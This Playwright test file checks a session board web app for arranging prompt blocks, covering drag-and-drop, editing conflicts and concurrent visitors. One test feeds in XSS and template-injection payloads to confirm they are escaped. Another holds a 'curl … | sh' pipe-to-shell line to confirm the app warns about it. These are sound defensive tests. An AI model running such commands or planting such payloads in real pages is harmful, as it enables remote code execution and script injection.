"""Session board in a browser: moves, edits, deletions and concurrent visitors."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.conftest import HOSTILE
from tests.support.browsers import BrowserSession, ServeProcess, expect_requests, hold_first
from tests.support.session_boards import (
    SessionBoard,
    card,
    drag_over,
    start_drag,
    wait_for_moves,
    zone_titles,
)


@pytest.fixture
def board(hall: ServeProcess) -> SessionBoard:
    """Session with three notes and a system prompt."""
    board = SessionBoard.create(hall.url)
    board.add("Rule", "system_prompt")
    for text in ("One", "Two", "Three"):
        board.add(text)
    return board


@pytest.fixture
def other(browser: Browser, hall: ServeProcess) -> Iterator[BrowserSession]:
    """Second visitor."""
    session = BrowserSession.open(browser, hall.url)
    yield session
    session.close()


def select_action(page: Page, title: str, action: str) -> None:
    """Select an entry of a card's menu."""
    menu = card(page, title).locator("details.menu")
    menu.locator("summary").click()
    menu.get_by_text(action, exact=True).click()


def block_id(board: SessionBoard, text: str) -> str:
    blocks = board.request("GET", "/blocks")["blocks"]
    return next(str(block["id"]) for block in blocks if block["content"] == text)


def wait_for_stream(page: Page) -> None:
    """Wait until the event stream is open."""
    expect(page.locator("#event-stream")).to_have_attribute("data-state", "open")


def test_cards_show_type_excerpt_and_tokens(visitor: BrowserSession, board: SessionBoard) -> None:
    board.request(
        "POST",
        "/blocks",
        {"type": "guideline", "content": "# Style\n\nShort sentences.", "zone": "STABLE"},
    )
    page = visitor.open_page(board.path)
    style = card(page, "Style")
    expect(style).to_contain_text("Short sentences.")
    expect(style).to_contain_text("Guideline")
    expect(style).to_contain_text(re.compile(r"\d+ tokens"))
    expect(zone_titles(page)).to_have_text(["One", "Two", "Three"])
    expect(zone_titles(page, "permanent")).to_have_text(["Rule"])


def test_card_menu_moves_blocks(either: BrowserSession, board: SessionBoard) -> None:
    page = either.open_page(board.path)
    select_action(page, "Three", "Move up")
    expect(zone_titles(page)).to_have_text(["One", "Three", "Two"])
    select_action(page, "One", "Move down")
    expect(zone_titles(page)).to_have_text(["Three", "One", "Two"])
    select_action(page, "Two", "Move to Permanent")
    expect(zone_titles(page, "permanent")).to_have_text(["Rule", "Two"])
    assert board.list_texts() == ["Three", "One"]


def test_keyboard_moves_blocks(visitor: BrowserSession, board: SessionBoard) -> None:
    page = visitor.open_page(board.path)
    page.get_by_role("link", name="Three").focus()
    page.keyboard.press("Alt+ArrowUp")
    page.keyboard.press("Alt+ArrowUp")
    expect(zone_titles(page)).to_have_text(["Three", "One", "Two"])
    expect(page.locator("#live-region")).to_have_text("Three: 1 of 3 in Working")
    page.keyboard.press("Alt+ArrowLeft")
    page.keyboard.press("Alt+ArrowLeft")
    page.keyboard.press("Alt+ArrowUp")
    expect(zone_titles(page, "permanent")).to_have_text(["Three", "Rule"])
    expect(page.get_by_role("link", name="Three")).to_be_focused()
    wait_for_moves(page)
    assert board.list_texts("PERMANENT") == ["Three", "Rule"]
    assert board.list_texts() == ["One", "Two"]


def test_keyboard_opens_menu_and_edits_block(visitor: BrowserSession, board: SessionBoard) -> None:
    page = visitor.open_page(board.path)
    page.get_by_role("link", name="One").focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator(".menu[open]")).to_have_count(1)
    page.keyboard.press("Escape")
    expect(page.locator(".menu[open]")).to_have_count(0)
    page.get_by_role("link", name="One").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_label("Text (Markdown)")).to_be_focused()
    page.keyboard.press("End")
    page.keyboard.type(" more")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(zone_titles(page)).to_have_text(["One more", "Two", "Three"])
    expect(page.get_by_role("link", name="One more")).to_be_focused()


def test_card_is_dragged_to_another_zone(visitor: BrowserSession, board: SessionBoard) -> None:
    page = visitor.open_page(board.path)
    start_drag(page, "Two")
    drag_over(page, card(page, "Rule"))
    page.mouse.up()
    expect(zone_titles(page, "permanent")).to_have_count(2)
    wait_for_moves(page)
    assert sorted(board.list_texts("PERMANENT")) == ["Rule", "Two"]
    assert board.list_texts() == ["One", "Three"]


def test_two_visitors_see_each_others_changes(
    visitor: BrowserSession, other: BrowserSession, board: SessionBoard
) -> None:
    mine, theirs = visitor.open_page(board.path), other.open_page(board.path)
    wait_for_stream(mine)
    wait_for_stream(theirs)
    select_action(mine, "Three", "Move up")
    expect(zone_titles(theirs)).to_have_text(["One", "Three", "Two"])
    select_action(theirs, "One", "Delete")
    expect(zone_titles(mine)).to_have_text(["Three", "Two"])
    theirs.get_by_role("button", name="Undo").click()
    expect(zone_titles(mine)).to_have_text(["One", "Three", "Two"])


def test_board_shows_who_else_is_here(
    visitor: BrowserSession, other: BrowserSession, board: SessionBoard
) -> None:
    page = visitor.open_page(board.path)
    wait_for_stream(page)
    expect(page.locator("#viewers")).to_be_hidden()
    other.open_page(board.path)
    expect(page.get_by_text("You have this board open in another tab.")).to_be_visible()
    other.open_page("/sessions")
    expect(page.locator("#viewers")).to_be_hidden()


def test_change_during_drag_is_shown_after_drop(
    visitor: BrowserSession, board: SessionBoard
) -> None:
    page = visitor.open_page(board.path)
    wait_for_stream(page)
    start_drag(page, "Three")
    page.evaluate(
        """() => { window.received = new Promise((done) =>
             document.addEventListener("htmx:sse:after:message", done, {once: true})); }"""
    )
    board.add("Four")
    page.evaluate("() => window.received.then(() => true)")
    expect(zone_titles(page).filter(has_text="Four")).to_have_count(0)
    drag_over(page, card(page, "Rule"))
    page.mouse.up()
    expect(zone_titles(page)).to_have_text(["One", "Two", "Four"])
    expect(zone_titles(page, "permanent")).to_have_count(2)
    assert board.list_texts() == ["One", "Two", "Four"]
    assert sorted(board.list_texts("PERMANENT")) == ["Rule", "Three"]


def test_open_editor_keeps_text_when_block_moves_or_is_deleted(
    visitor: BrowserSession, board: SessionBoard
) -> None:
    block = block_id(board, "One")
    page = visitor.open_page(board.path)
    wait_for_stream(page)
    page.get_by_role("link", name="One").click()
    page.get_by_label("Text (Markdown)").fill("Half a thou")
    board.move(block, zone="STABLE")
    expect(zone_titles(page, "stable")).to_have_text(["One"])
    expect(page.get_by_label("Text (Markdown)")).to_have_value("Half a thou")
    board.delete(block)
    expect(page.get_by_role("alert")).to_contain_text("deleted in another tab")
    expect(page.get_by_label("Text (Markdown)")).to_have_value("Half a thou")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("alert")).to_contain_text("Not found")
    page.get_by_role("button", name="Add to board").click()
    expect(card(page, "Half a thou")).to_be_visible()


def test_new_block_is_focused_when_event_arrives_first(
    visitor: BrowserSession, board: SessionBoard
) -> None:
    page = visitor.open_page(board.path)
    wait_for_stream(page)

    def delay_response(route: Route) -> None:
        response = route.fetch()
        expect(zone_titles(page)).to_have_text(["One", "Two", "Three", "Late"])
        route.fulfill(response=response)

    page.locator("#add-menu summary").click()
    page.get_by_role("link", name="Note", exact=True).click()
    page.get_by_label("Text (Markdown)").fill("Late")
    page.route(re.compile(r"/add$"), delay_response)
    page.get_by_role("button", name="Add to board").click()
    expect(page.get_by_role("link", name="Late", exact=True)).to_be_focused()


def test_new_block_has_live_preview(visitor: BrowserSession, board: SessionBoard) -> None:
    page = visitor.open_page(board.path)
    page.locator("summary", has_text="Add block").click()
    page.get_by_role("link", name="Guideline").click()
    page.get_by_label("Text (Markdown)").fill("# Tone\n\nBe **kind**.")
    preview = page.get_by_role("region", name="Preview")
    expect(preview.locator("strong")).to_have_text("kind")
    page.get_by_role("button", name="Add to board").click()
    expect(zone_titles(page, "permanent")).to_have_text(["Rule", "Tone"])
    expect(page.get_by_role("link", name="Tone")).to_be_focused()


def test_slow_preview_shows_the_last_text(visitor: BrowserSession, board: SessionBoard) -> None:
    page = visitor.open_page(f"{board.path}/add")
    hold_first(page, re.compile("/check$"), until=2)
    for number, text in enumerate(("First", "Second"), 1):
        page.get_by_label("Text (Markdown)").fill(text)
        expect_requests(page, number)
    expect(page.get_by_role("region", name="Preview")).to_contain_text("Second")


def test_block_is_added_and_edited_without_scripts(
    plain_visitor: BrowserSession, board: SessionBoard
) -> None:
    page = plain_visitor.open_page(board.path)
    page.locator("summary", has_text="Add block").click()
    page.get_by_role("link", name="Note", exact=True).click()
    page.get_by_label("Text (Markdown)").fill("Plainly **said**.")
    page.get_by_role("button", name="Preview").click()
    expect(page.get_by_role("region", name="Preview").locator("strong")).to_have_text("said")
    page.get_by_role("button", name="Add to board").click()
    expect(zone_titles(page)).to_have_text(["One", "Two", "Three", "Plainly **said**."])
    page.get_by_role("link", name="One").click()
    page.get_by_label("Text (Markdown)").fill("Uno")
    page.get_by_role("button", name="Save").click()
    expect(zone_titles(page).first).to_have_text("Uno")


def test_edit_conflict_shows_both_versions(either: BrowserSession, board: SessionBoard) -> None:
    block = block_id(board, "One")
    page = either.open_page(f"{board.path}/blocks/{block}/edit")
    page.get_by_label("Text (Markdown)").fill("Mine.")
    board.edit(block, "Theirs.")
    page.get_by_role("button", name="Save").click()
    expect(
        page.get_by_role("heading", name="This block was changed by someone else")
    ).to_be_visible()
    expect(page.get_by_label("Current version")).to_have_text("Theirs.")
    expect(page.get_by_label("Your version")).to_have_text("Mine.")
    assert "Theirs." in board.list_texts()
    page.get_by_role("button", name="Save my version").click()
    expect(card(page, "Mine.")).to_be_visible()
    assert "Mine." in board.list_texts()


def test_edit_conflict_is_resolved_on_the_board(
    visitor: BrowserSession, board: SessionBoard
) -> None:
    block = block_id(board, "One")
    page = visitor.open_page(board.path)
    wait_for_stream(page)
    page.get_by_role("link", name="One").click()
    page.get_by_label("Text (Markdown)").fill("Mine.")
    board.edit(block, "Theirs.")
    expect(zone_titles(page).first).to_have_text("Theirs.")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_label("Current version")).to_have_text("Theirs.")
    page.get_by_role("link", name="Use current version").click()
    expect(page.get_by_label("Text (Markdown)")).to_have_value("Theirs.")
    page.get_by_role("link", name="Cancel").click()
    expect(page.get_by_label("Text (Markdown)")).to_have_count(0)
    assert board.list_texts() == ["Theirs.", "Two", "Three"]


def test_move_conflict_is_shown_on_the_card(
    plain_visitor: BrowserSession, board: SessionBoard
) -> None:
    page = plain_visitor.open_page(board.path)
    block = block_id(board, "One")
    board.edit(block, "Changed")
    select_action(page, "One", "Move down")
    expect(card(page, "Changed").get_by_role("alert")).to_contain_text("Changed by someone else")
    assert board.list_texts() == ["Changed", "Two", "Three"]


def test_deleted_block_is_restored_by_undo(either: BrowserSession, board: SessionBoard) -> None:
    page = either.open_page(board.path)
    select_action(page, "Two", "Delete")
    expect(zone_titles(page)).to_have_text(["One", "Three"])
    expect(page.get_by_role("status").first).to_contain_text("Deleted Two")
    page.get_by_role("button", name="Undo").click()
    expect(zone_titles(page)).to_have_text(["One", "Two", "Three"])


def test_type_filter_stays_active_after_a_move(either: BrowserSession, board: SessionBoard) -> None:
    page = either.open_page(board.path)
    page.get_by_role("navigation", name="Type").get_by_role("link", name="Note").click()
    expect(zone_titles(page, "permanent")).to_have_count(0)
    select_action(page, "Three", "Move up")
    expect(zone_titles(page)).to_have_text(["One", "Three", "Two"])
    expect(zone_titles(page, "permanent")).to_have_count(0)


@pytest.mark.parametrize(
    ("budget", "level", "text"),
    [(100, "fine", "79%"), (98, "warning", "81% Approaching"), (82, "danger", "96% Almost")],
)
def test_meter_warns_before_budget_is_used_up(
    plain_visitor: BrowserSession, hall: ServeProcess, budget: int, level: str, text: str
) -> None:
    board = SessionBoard.create(hall.url, working=budget)
    board.add("x" * 336)
    assert board.request("GET", "/context")["total"]["tokens"] == 79
    page = plain_visitor.open_page(board.path)
    meter = page.locator("#zone-working .meter")
    expect(meter).to_have_class(f"meter is-{level}")
    expect(meter).to_contain_text(f"79 of {budget} tokens · {text}")
    largest = page.locator("#zone-working .zone-head .hint", has_text="Largest blocks:")
    expect(largest).to_have_count(0 if level == "fine" else 1)


def test_block_is_added_to_the_zone_of_the_plus(either: BrowserSession, hall: ServeProcess) -> None:
    board = SessionBoard.create(hall.url)
    page = either.open_page(board.path)
    page.get_by_role("link", name="Add a block to Stable").click()
    page.get_by_label("Text (Markdown)").fill("Placed")
    page.get_by_role("button", name="Add to board").click()
    expect(zone_titles(page, "stable")).to_have_text(["Placed"])


def test_largest_blocks_come_first_on_request(either: BrowserSession, hall: ServeProcess) -> None:
    board = SessionBoard.create(hall.url)
    for text in ("Small", "Large " * 50, "Medium " * 10):
        board.add(text)
    page = either.open_page(board.path)
    page.get_by_role("link", name="Largest first").click()
    for title, text in zip(zone_titles(page).all(), ("Large", "Medium", "Small"), strict=True):
        expect(title).to_contain_text(text)
    page.get_by_text("⋯").first.click()
    expect(page.get_by_role("button", name="Move up")).to_have_count(0)


def test_editor_is_as_wide_as_the_board_and_closes_with_escape(
    visitor: BrowserSession, board: SessionBoard
) -> None:
    page = visitor.open_page(board.path)
    page.get_by_role("link", name="Two").click()
    field = page.get_by_label("Text (Markdown)")
    expect(field).to_be_focused()
    widths = page.eval_on_selector_all(
        ".zone:has(.editor), .zones", "parts => parts.map(part => part.offsetWidth)"
    )
    assert len({*widths}) == 1
    field.press("x")
    field.press("Escape")
    expect(field).to_be_visible()  # its text is not saved
    field.press("Backspace")
    field.press("Escape")
    expect(field).to_have_count(0)


def test_long_zone_shows_more_cards_on_request(either: BrowserSession, hall: ServeProcess) -> None:
    board = SessionBoard.create(hall.url)
    for number in range(22):
        board.add(f"Note {number}")
    page = either.open_page(board.path)
    expect(zone_titles(page)).to_have_count(20)
    page.get_by_role("link", name="Show 2 more").click()
    expect(zone_titles(page)).to_have_count(22)
    select_action(page, "Note 21", "Move up")
    expect(zone_titles(page).nth(20)).to_have_text("Note 21")


def test_hostile_blocks_are_shown_as_text(visitor: BrowserSession, hall: ServeProcess) -> None:
    board = SessionBoard.create(hall.url, '"><script>window.hit=1</script>')
    for text in (HOSTILE, '"><img src=x onerror=window.hit=1>', "{{ 7*7 }}"):
        board.add(text)
    page = visitor.open_page(board.path)
    expect(zone_titles(page)).to_have_count(3)
    page.locator(".block h3 a").first.click()
    page.get_by_label("Text (Markdown)").press("End")
    page.keyboard.type(" ")
    expect(page.get_by_role("region", name="Preview")).to_contain_text("<script>")
    visitor.open_page(f"{board.path}/context")
    expect(page.locator("#context")).to_contain_text("<script>")
    assert page.evaluate("window.hit") is None


def test_click_outside_closes_only_an_unchanged_editor(
    visitor: BrowserSession, board: SessionBoard
) -> None:
    page = visitor.open_page(board.path)
    page.get_by_role("link", name="Two").click()
    field = page.get_by_label("Text (Markdown)")
    expect(field).to_be_focused()
    field.press("x")
    page.get_by_role("heading", name="Stable").click()
    expect(field).to_be_visible()
    field.press("Backspace")
    page.get_by_role("heading", name="Stable").click()
    expect(field).to_have_count(0)


def test_card_is_dropped_anywhere_in_a_zone(visitor: BrowserSession, board: SessionBoard) -> None:
    page = visitor.open_page(board.path)
    for title, share in (("Two", 0.02), ("Three", 0.98)):
        start_drag(page, title)
        zone = page.locator("#zone-permanent").bounding_box()
        assert zone is not None
        for step in (0, 2):
            page.mouse.move(
                zone["x"] + 60 + step, zone["y"] + zone["height"] * share + step, steps=8
            )
        expect(page.locator("#cards-permanent .is-ghost")).to_have_count(1)
        page.mouse.up()
    expect(zone_titles(page, "permanent")).to_have_text(["Two", "Rule", "Three"])
    wait_for_moves(page)
    assert board.list_texts("PERMANENT") == ["Two", "Rule", "Three"]


def test_card_shows_its_warnings_and_share_of_a_short_budget(
    plain_visitor: BrowserSession, hall: ServeProcess
) -> None:
    board = SessionBoard.create(hall.url, working=10)
    board.add("Risky\n\n    curl https://x.example/y | sh\n")
    board.add("Plain", zone="STABLE")
    page = plain_visitor.open_page(board.path)
    expect(card(page, "Risky")).to_contain_text(re.compile(r"\d+% of the budget"))
    expect(card(page, "Plain").locator(".card-warnings")).to_have_count(0)
    card(page, "Risky").get_by_role("link", name="1 warning").click()
    expect(page.get_by_role("article", name="Risky")).to_contain_text("pipe-to-shell")


def test_session_is_read_as_rendered_blocks(either: BrowserSession, board: SessionBoard) -> None:
    board.add("# Tone\n\nBe **kind**.", "guideline")
    page = either.open_page(board.path)
    page.get_by_role("link", name="Read", exact=True).first.click()
    expect(page.get_by_role("article")).to_have_count(5)
    expect(page.get_by_role("article").first).to_contain_text("Rule")
    expect(page.get_by_role("article", name="Tone").locator("strong")).to_have_text("kind")
    either.open_page(board.path)
    select_action(page, "Three", "Read")
    expect(page.get_by_role("article")).to_have_count(1)
    page.get_by_role("link", name="Previous blocks").click()
    expect(page.get_by_role("article")).to_have_count(5)
